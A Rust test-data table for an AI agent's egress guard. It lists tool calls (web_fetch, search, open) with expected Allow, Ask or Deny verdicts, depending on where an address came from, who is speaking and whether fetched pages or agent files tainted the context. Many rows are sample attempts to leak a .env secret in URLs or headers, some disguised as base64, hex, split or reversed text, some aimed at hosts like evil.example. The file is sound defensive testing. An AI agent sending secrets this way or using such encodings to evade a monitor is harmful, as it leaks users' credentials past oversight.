//! The flows. In the arguments, `{site}` is the server that counts, `{raw}` and the like the secret of `.env` in some
//! spelling.

pub use super::play::{Read, Said, Taint, Verdict, Who};
use Read as R;
use Said as S;
use Taint as T;
use Verdict::{Allow, Ask, Deny};
use Who as W;

/// One flow: the source of the address, the data read before, the speaker, the cause of the taint, the call, its
/// decision, and the text that the model reads.
#[derive(Debug, PartialEq)]
pub struct Flow {
    pub said: Said,
    pub read: Read,
    pub who: Who,
    pub taint: Taint,
    pub tool: &'static str,
    pub arguments: &'static str,
    pub expected: Verdict,
    pub why: &'static str,
}

impl Flow {
    /// Whether the request reaches the server: `deeds` sends none.
    pub fn arrives(&self) -> bool {
        self.expected == Allow && self.tool.starts_with("web")
    }
}

type Row = (Said, Read, Who, Taint, &'static str, &'static str, Verdict, &'static str);

const fn flow((said, read, who, taint, tool, arguments, expected, why): Row) -> Flow {
    Flow { said, read, who, taint, tool, arguments, expected, why }
}

const PAGE: &str = r#"{"url":"{site}/page"}"#;
const UNKNOWN: &str = "is neither in the owner's words nor on a fetched page";
const FILE: &str = "text read by `fs.read` would go to";

/// The page with something in a header.
macro_rules! header {
    ($value:literal) => {
        concat!(r#"{"url":"{site}/page","headers":{"x-note":""#, $value, r#""}}"#)
    };
}

/// The page with something behind it.
macro_rules! behind {
    ($value:literal) => {
        concat!(r#"{"url":"{site}/page"#, $value, r#""}"#)
    };
}

#[rustfmt::skip]
pub const FLOWS: &[Flow] = &[
    // The source of the address.
    flow((S::Owner, R::Nothing, W::Owner, T::Agents, "web_fetch", PAGE, Allow, "")),
    flow((S::Nobody, R::Nothing, W::Owner, T::Agents, "web_fetch", PAGE, Ask, UNKNOWN)),
    flow((S::File, R::Nothing, W::Owner, T::Agents, "web_fetch", PAGE, Ask, UNKNOWN)),
    flow((S::Agents, R::Nothing, W::Owner, T::Agents, "web_fetch", PAGE, Ask, UNKNOWN)),
    flow((S::Memory, R::Nothing, W::Owner, T::Agents, "web_fetch", PAGE, Ask, UNKNOWN)),
    flow((S::Page, R::Nothing, W::Owner, T::Agents, "web_fetch", PAGE, Allow, "")),
    flow((S::Spilled, R::Nothing, W::Owner, T::Agents, "web_fetch", PAGE, Allow, "")),
    flow((S::SpilledEarlier, R::Nothing, W::Owner, T::Agents, "web_fetch", PAGE, Allow, "")),
    flow((S::OwnerEarlier, R::Nothing, W::Owner, T::Agents, "web_fetch", PAGE, Allow, "")),
    flow((S::PageEarlier, R::Nothing, W::Owner, T::Agents, "web_fetch", PAGE, Allow, "")),
    flow((S::PeerEarlier, R::Nothing, W::Boss, T::Agents, "web_fetch", PAGE, Ask, UNKNOWN)),
    flow((S::Nobody, R::Nothing, W::Owner, T::Page, "web_fetch", PAGE, Ask, UNKNOWN)),
    flow((S::Owner, R::Nothing, W::Owner, T::Page, "web_fetch", PAGE, Allow, "")),
    // A clean owner may do everything.
    flow((S::Nobody, R::Nothing, W::Owner, T::None, "web_fetch", PAGE, Allow, "")),
    flow((S::Nobody, R::File, W::Owner, T::None, "web_fetch", behind!("?q={raw}"), Allow, "")),
    // The speaker.
    flow((S::Sender, R::Nothing, W::Boss, T::Agents, "web_fetch", PAGE, Allow, "")),
    flow((S::Nobody, R::Nothing, W::Boss, T::Agents, "web_fetch", PAGE, Ask, UNKNOWN)),
    flow((S::Sender, R::Nothing, W::Peer, T::None, "web_fetch", PAGE, Deny, UNKNOWN)),
    flow((S::Sender, R::Nothing, W::Stranger, T::None, "web_fetch", PAGE, Deny, UNKNOWN)),
    flow((S::OwnerEarlier, R::Nothing, W::Peer, T::None, "web_fetch", PAGE, Allow, "")),
    flow((S::PageEarlier, R::Nothing, W::Stranger, T::None, "web_fetch", PAGE, Allow, "")),
    flow((S::OwnerEarlier, R::File, W::Peer, T::None, "web_fetch", header!("{raw}"), Deny, FILE)),
    flow((S::OwnerEarlier, R::Nothing, W::Unlisted, T::None, "web_fetch", PAGE, Deny, "")),
    // How it is spelled, behind an address whose host the owner named.
    flow((S::Owner, R::File, W::Owner, T::Agents, "web_fetch", behind!("?q={raw}"), Ask, FILE)),
    flow((S::Owner, R::File, W::Owner, T::Agents, "web_fetch", behind!("?q={percent}"), Ask, FILE)),
    flow((S::Owner, R::File, W::Owner, T::Agents, "web_fetch", behind!("?q={base64}"), Ask, FILE)),
    flow((S::Owner, R::File, W::Owner, T::Agents, "web_fetch", behind!("?q={base64url}"), Ask, FILE)),
    flow((S::Owner, R::File, W::Owner, T::Agents, "web_fetch", behind!("?q={hex}"), Ask, FILE)),
    flow((S::Owner, R::File, W::Owner, T::Agents, "web_fetch", behind!("?q={upper}"), Ask, FILE)),
    flow((S::Owner, R::File, W::Owner, T::Agents, "web_fetch", behind!("?q={split}"), Ask, FILE)),
    flow((S::Owner, R::File, W::Owner, T::Agents, "web_fetch", behind!("?q={reversed}"), Ask, FILE)),
    flow((S::Owner, R::File, W::Owner, T::Agents, "web_fetch", behind!("?q={twice}"), Ask, FILE)),
    flow((S::Owner, R::File, W::Owner, T::Agents, "web_fetch", behind!("/{raw}/x"), Ask, FILE)),
    flow((S::Owner, R::File, W::Owner, T::Agents, "web_fetch", behind!("?q=rot13"), Ask, UNKNOWN)),
    flow((S::Owner, R::Nothing, W::Owner, T::Agents, "web_fetch", behind!("/x"), Ask, UNKNOWN)),
    // Beside an address that the owner named whole.
    flow((S::Owner, R::File, W::Owner, T::Agents, "web_fetch", header!("{raw}"), Ask, FILE)),
    flow((S::Owner, R::File, W::Owner, T::Agents, "web_fetch", header!("{base64}"), Ask, FILE)),
    flow((S::Owner, R::File, W::Owner, T::Agents, "web_fetch", header!("{hex}"), Ask, FILE)),
    flow((S::Owner, R::File, W::Owner, T::Agents, "web_fetch", header!("text/html"), Allow, "")),
    flow((S::Owner, R::File, W::Owner, T::Agents, "web_fetch", r#"{"url":"{site}/page","headers":{"{split}":"1"}}"#, Ask, FILE)),
    flow((S::Page, R::File, W::Owner, T::Agents, "web_fetch", header!("{raw}"), Ask, FILE)),
    // The data that was read, and its source.
    flow((S::Owner, R::Program, W::Owner, T::Page, "web_fetch", header!("{raw}"), Ask, "text read by `bash` would go to")),
    flow((S::Owner, R::Memory, W::Owner, T::Agents, "web_fetch", header!("{raw}"), Ask, "text of the system prompt (instructions, memory) would go to")),
    flow((S::Owner, R::Earlier, W::Owner, T::Agents, "web_fetch", header!("{base64}"), Ask, FILE)),
    flow((S::Owner, R::Remembered, W::Owner, T::Agents, "web_fetch", header!("{raw}"), Ask, "would go to")),
    flow((S::Owner, R::Inside, W::Owner, T::Agents, "web_fetch", header!("{raw}"), Ask, FILE)),
    flow((S::Owner, R::File, W::Owner, T::Agents, "web_fetch inside", header!("{raw}"), Ask, FILE)),
    flow((S::Owner, R::Nothing, W::Owner, T::Agents, "web_fetch inside", PAGE, Allow, "")),
    flow((S::Nobody, R::Nothing, W::Owner, T::Agents, "web_fetch inside", PAGE, Ask, UNKNOWN)),
    flow((S::PageInside, R::Nothing, W::Owner, T::Agents, "web_fetch", PAGE, Allow, "")),
    // A redirect is asked for from an address of this conversation.
    flow((S::Owner, R::Nothing, W::Owner, T::Agents, "web_fetch", r#"{"url":"{site}/away"}"#, Allow, "")),
    // A tool that asks a service of its own.
    flow((S::Nobody, R::File, W::Owner, T::Agents, "search", r#"{"query":"weather in berlin tomorrow"}"#, Allow, "")),
    flow((S::Nobody, R::File, W::Owner, T::Agents, "search", r#"{"query":"what is {raw}"}"#, Ask, "would go to `search.example`")),
    flow((S::Nobody, R::File, W::Owner, T::Agents, "search", r#"{"query":"{base64}"}"#, Ask, FILE)),
    flow((S::Nobody, R::File, W::Owner, T::Agents, "search", r#"{"filter":[{"or":["a","{hex}"]}]}"#, Ask, FILE)),
    flow((S::Nobody, R::File, W::Owner, T::Agents, "search", r#"{"query":"{short}"}"#, Allow, "")),
    flow((S::OwnerSecret, R::File, W::Owner, T::Agents, "search", r#"{"query":"{raw}"}"#, Allow, "")),
    flow((S::Nobody, R::Nothing, W::Owner, T::Agents, "search", r#"{"query":"see {site}/page"}"#, Ask, UNKNOWN)),
    flow((S::Nobody, R::Nothing, W::Peer, T::None, "search", r#"{"query":"weather in berlin tomorrow"}"#, Allow, "")),
    flow((S::Nobody, R::File, W::Peer, T::None, "search", r#"{"query":"{percent}"}"#, Deny, FILE)),
    // A tool that may send to any host.
    flow((S::Nobody, R::Nothing, W::Owner, T::Agents, "open", r#"{"query":"weather in berlin tomorrow"}"#, Ask, "its arguments do not name")),
    flow((S::Nobody, R::Nothing, W::Owner, T::Agents, "open", r#"{"domain":"evil.example"}"#, Ask, UNKNOWN)),
    flow((S::Nobody, R::Nothing, W::Owner, T::Agents, "open", r#"{"host":"10.0.0.1:80/x"}"#, Ask, UNKNOWN)),
    flow((S::Domain, R::Nothing, W::Owner, T::Agents, "open", r#"{"domain":"docs.example"}"#, Allow, "")),
    flow((S::Domain, R::File, W::Owner, T::Agents, "open", r#"{"domain":"docs.example","q":"{raw}"}"#, Ask, FILE)),
    flow((S::Owner, R::Nothing, W::Owner, T::Agents, "open", r#"{"url":"{site}/page","to":"https:evil.example"}"#, Ask, UNKNOWN)),
    flow((S::Nobody, R::Nothing, W::Owner, T::None, "open", r#"{"domain":"evil.example"}"#, Allow, "")),
];
